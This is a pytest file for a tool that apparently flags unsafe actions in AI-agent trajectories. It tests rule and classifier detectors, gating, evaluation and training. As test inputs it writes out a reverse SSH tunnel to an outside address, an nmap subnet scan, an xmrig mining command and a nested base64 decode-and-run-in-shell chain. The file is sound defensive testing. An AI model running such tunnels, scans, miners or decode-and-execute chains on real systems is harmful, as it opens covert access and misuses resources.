"""The classifier inside the pipeline: config, gate, combination policy, requested tasks, eval, train recipe."""
from __future__ import annotations

import json

import pytest

pytest.importorskip("torch")

from safefilter.classifier import ModelLoadError, load_classifier, tiny_model_dir  # noqa: E402
from safefilter.config import resolve_config  # noqa: E402
from safefilter.errors import SafeFilterError  # noqa: E402
from safefilter.evaluate import evaluate, write_report  # noqa: E402
from safefilter.policy import Policy  # noqa: E402
from safefilter.run import build_scanner, run  # noqa: E402
from safefilter.types import Finding, Severity  # noqa: E402

from conftest import bash, tool, traj  # noqa: E402

ALWAYS = {c: 0.0 for c in ("tunneling", "cryptomining", "network_probing", "resource_acquisition")}


@pytest.fixture(scope="module")
def tiny(tmp_path_factory):
    return tiny_model_dir(tmp_path_factory.mktemp("tiny") / "model")


def _config(tiny, **classifier):
    cfg = {"enabled": True, "model": str(tiny), **classifier}
    return resolve_config({"input": "x", "output": "y", "classifier": cfg})[0]


def _finding(detector: str, category: str = "tunneling") -> Finding:
    return Finding(category=category, subcategory="x", detector=detector, rule_id=f"{detector}:x", score=0.9,
                   severity=Severity.HIGH, mitre=(), message_index=2, tool_call_id=None, field=None, start=0,
                   end=1, evidence="ssh -R", decoded_from=None, requested=False)


@pytest.mark.parametrize("mode,rule_counts,clf_counts", [
    ("either", True, True), ("rules", True, False), ("classifier", False, True)])
def test_combine_mode_decides_whose_findings_count(mode, rule_counts, clf_counts):
    policy = Policy(combine=mode)
    assert policy.decide([_finding("rule")]).unsafe is rule_counts
    assert policy.decide([_finding("classifier")]).unsafe is clf_counts


def test_combine_mode_is_validated():
    with pytest.raises(ValueError, match="combine"):
        Policy(combine="both")
    with pytest.raises(SafeFilterError, match="policy.combine"):
        resolve_config({"input": "x", "output": "y", "policy": {"combine": "both"}})


def test_classifier_findings_carry_detector_and_score(tiny):
    scanner = build_scanner(_config(tiny, thresholds=ALWAYS))
    verdict = scanner.scan(traj(bash("ls -la src/"), tool("a.py")))
    found = [f for f in verdict.findings if f.detector == "classifier"]
    assert verdict.unsafe and {f.category for f in found} == set(ALWAYS)
    assert all(0.0 <= f.score <= 1.0 and f.rule_id == f"classifier:{f.category}" for f in found)
    assert all(f.evidence == "ls -la src/" and f.message_index == 2 for f in found)
    safety = verdict.safety_object()
    assert any(f["detector"] == "classifier" for f in safety["findings"])


def test_undecided_gate_skips_what_the_rules_flagged(tiny):
    flagged = traj(bash("ssh -N -R 9000:localhost:22 op@203.0.113.7"), rid="flagged")
    quiet = traj(bash("pytest -q tests/"), rid="quiet")
    for gate, expect_on_flagged in (("undecided", False), ("all", True)):
        scanner = build_scanner(_config(tiny, thresholds=ALWAYS, gate=gate))
        v_flagged, v_quiet = (r.verdict for r in scanner.scan_records([(flagged, "flagged"), (quiet, "quiet")]))
        assert any(f.detector == "rule" for f in v_flagged.findings)
        assert any(f.detector == "classifier" for f in v_flagged.findings) is expect_on_flagged
        assert any(f.detector == "classifier" for f in v_quiet.findings)


def test_classifier_findings_in_a_requested_category_do_not_count(tiny):
    scanner = build_scanner(_config(tiny, thresholds={"tunneling": 0.0, "cryptomining": 1.0,
                                                      "network_probing": 1.0, "resource_acquisition": 1.0}))
    asked = traj(bash("ls"), task="Open an SSH tunnel to the bastion so the migration can reach the database")
    verdict = scanner.scan(asked)
    found = [f for f in verdict.findings if f.detector == "classifier"]
    assert found and all(f.requested for f in found) and not verdict.unsafe


def test_rules_only_config_builds_no_classifier(tiny):
    cfg = resolve_config({"input": "x", "output": "y", "classifier": {"enabled": False, "model": "/nowhere"}})[0]
    assert [d.name for d in build_scanner(cfg).detectors] == ["rule"]


def test_missing_model_says_which_command_makes_it(tmp_path):
    cfg = {"input": "examples/trajectories", "output": str(tmp_path / "run"),
           "classifier": {"enabled": True, "model": str(tmp_path / "no-model")}}
    with pytest.raises(ModelLoadError, match="safefilter train --config configs/train.yaml"):
        run(resolve_config(cfg)[0])
    assert not (tmp_path / "run" / "clean").exists()


def test_run_with_classifier_keeps_counts_and_contract(tiny, tmp_path):
    cfg = resolve_config({"input": "examples/trajectories", "output": str(tmp_path / "run"),
                          "classifier": {"enabled": True, "model": str(tiny)}})[0]
    summary = run(cfg)
    c = summary.counts
    assert c["input"] == c["clean"] + c["unsafe"] + c["invalid"] and c["input"] > 0


def test_eval_reports_each_detector_and_writes_plots(tiny, tmp_path):
    scanner = build_scanner(_config(tiny))
    records = [(traj(bash("ssh -N -R 9000:localhost:22 op@203.0.113.7"), rid="a"), "a"),
               (traj(bash("pytest -q"), rid="b"), "b"),
               (traj(bash("nmap -sS 10.0.0.0/24"), rid="c"), "c")]
    labels = {"a": {"unsafe": True, "categories": ["tunneling"]}, "b": {"unsafe": False, "categories": []},
              "c": {"unsafe": True, "categories": ["network_probing"]}, "d": {"unsafe": False, "categories": []}}
    report = evaluate(scanner, records, labels)
    rules = report["detectors"]["rules"]["overall"]
    assert (rules["tp"], rules["fn"], rules["fp"]) == (2, 0, 0)
    assert report["labels_without_record"] == ["d"]
    combined = report["detectors"]["combined"]["overall"]
    assert combined["tp"] >= rules["tp"] and combined["tp"] + combined["fn"] == 2
    assert report["rule_misses"]["unsafe_missed_by_rules"] == 0
    assert set(report["pr_curves"]) == set(ALWAYS)
    assert scanner.detectors[-1].threshold_override == {} and scanner.detectors[-1].gate == "undecided"
    written = write_report(report, tmp_path / "eval")
    assert json.loads((tmp_path / "eval" / "metrics.json").read_text())["labeled"] == 3
    assert all(p.stat().st_size > 1000 for p in written if p.suffix == ".png") and len(written) == 5


def test_eval_judges_analysis_cut_short_as_the_run_does(tiny):
    """A record whose payload is one encoding layer past the decoder is unsafe in `run`; eval agrees."""
    import base64

    text = "uname -a"
    for _ in range(5):
        text = "echo " + base64.b64encode(text.encode()).decode() + " | base64 -d | sh"
    config = _config(tiny)
    config["policy"]["disabled_rules"] = ["ra-decode-exec"]  # no finding left: only the limit makes it unsafe
    scanner = build_scanner(config)
    verdict = scanner.scan(traj(bash(text), rid="deep"))
    assert verdict.unsafe and not [f for f in verdict.findings if f.detector == "rule"]
    assert verdict.analysis_incomplete
    report = evaluate(scanner, [(traj(bash(text), rid="deep"), "deep")],
                      {"deep": {"unsafe": True, "categories": []}})
    assert report["detectors"]["rules"]["overall"]["tp"] == 1


def test_train_recipe_student_roundtrip(tmp_path):
    from safefilter.classifier.recipe import load_recipe, train_from_recipe

    recipe = load_recipe(None, [f"data.dir={tmp_path / 'data'}", "data.examples=240", f"output={tmp_path / 'm'}",
                                "student={layers: 1, hidden: 32, heads: 2, intermediate: 64}",
                                "training.max_steps=6", "training.batch_size=16", "training.save_dtype=float16"])
    summary = train_from_recipe(recipe, progress=False, log=lambda m: None)
    cfg = json.loads((tmp_path / "m" / "training_config.json").read_text())
    assert cfg["input_context"] == "none" and cfg["student"]["hidden"] == 32 and cfg["recipe"]["data"]["examples"] == 240
    assert (tmp_path / "data" / "hashes.json").is_file()
    clf = load_classifier(tmp_path / "m", device="cpu")
    assert clf.model.config.hidden_size == 32 and next(clf.model.parameters()).dtype.is_floating_point
    texts = ["[shell] ls -la", "[shell] xmrig -o pool.example.com:3333"]
    again = load_classifier(tmp_path / "m", device="cpu").predict(texts)
    assert (abs(clf.predict(texts) - again) < 1e-6).all()
    assert summary["steps"] == 6


def test_train_recipe_rejects_unknown_keys(tmp_path):
    from safefilter.classifier.recipe import load_recipe

    (tmp_path / "t.yaml").write_text("training:\n  epoch: 2\n")
    with pytest.raises(SafeFilterError, match="training.epoch"):
        load_recipe(tmp_path / "t.yaml")


def test_training_data_made_by_other_code_is_remade(tmp_path):
    from safefilter.classifier.recipe import _data_is_current, make_training_data

    data = {"dir": str(tmp_path), "examples": 120, "seed": 0, "validation_share": 0.1, "generator": {}}
    make_training_data(tmp_path, examples=120)
    assert _data_is_current(tmp_path, data)
    assert not _data_is_current(tmp_path, {**data, "seed": 1})
    settings = json.loads((tmp_path / "settings.json").read_text())
    (tmp_path / "settings.json").write_text(json.dumps({**settings, "generator_sha256": "older generator"}))
    assert not _data_is_current(tmp_path, data)
